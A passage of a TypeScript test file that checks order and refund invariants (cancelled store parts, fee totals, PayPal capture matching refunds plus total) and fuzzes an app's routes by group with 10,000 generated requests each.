 * of what is left, what it no longer costs was refunded (refunds + total = capture), and an order
 * with nothing left is CANCELLED.
 */
async function assertPartsCharged(app: App, order: OrderRow, lines: OrderLineRow[], refunded: number): Promise<void> {
  const parts = await app.db.select().from(orderStoreParts).where(eq(orderStoreParts.orderId, order.id));
  const idle = parts.filter((p) => p.status !== 'CANCELLED' && !delivers(p, lines)).map((p) => p.storeUuid);
  expect({ order: order.id, partsWithNothingStillOpen: idle }).toEqual({ order: order.id, partsWithNothingStillOpen: [] });
  const nothingLeft = parts.length > 0 && parts.every((p) => !delivers(p, lines));
  expect({ order: order.id, nothingLeft, status: order.status }).toEqual({
    order: order.id,
    nothingLeft,
    status: nothingLeft ? 'CANCELLED' : order.status,
  });
  if (order.status === 'CANCELLED') return;
  const { money } = orderMoney(order.deliveryState, parts, lines);
  expect({ order: order.id, money: moneyOf(order) }).toEqual({ order: order.id, money });
  expect({ order: order.id, refundedPlusTotal: refunded + order.totalCents }).toEqual({
    order: order.id,
    refundedPlusTotal: order.paypalCapturedCents,
  });
}

const moneyOf = (o: OrderRow) => ({
  subtotal: o.subtotalCents,
  tax: o.taxCents,
  serviceFee: o.serviceFeeCents,
  deliveryFee: o.deliveryFeeCents,
  processingFee: o.processingFeeCents,
  total: o.totalCents,
});

/** At least this many generated requests per route group (the issue's bar). */
export const REQUESTS_PER_GROUP = 10_000;

/**
 * One group's run: every route of the app in `group` (none may be missing: the list comes from the
 * app), REQUESTS_PER_GROUP requests between them, each route hit at least 100 times, then the invariants.
 */
export async function fuzzGroup(group: RouteGroup, app: App, routes: RouteInfo[], ctx: RequestContext): Promise<void> {
  const mine = routes.filter((r) => groupOf(r) === group);
  expect(mine.length).toBeGreaterThan(0);
  const started = Date.now();
  const tally = await fuzzRoutes(app, mine, { ...ctx, runs: REQUESTS_PER_GROUP });
  process.stdout.write(tally.report(group, Date.now() - started));
  expect(tally.total).toBeGreaterThanOrEqual(REQUESTS_PER_GROUP);
  expect(mine.filter((r) => tally.count(r) < 1).map((r) => r.key)).toEqual([]);
  await assertInvariants(app);
}
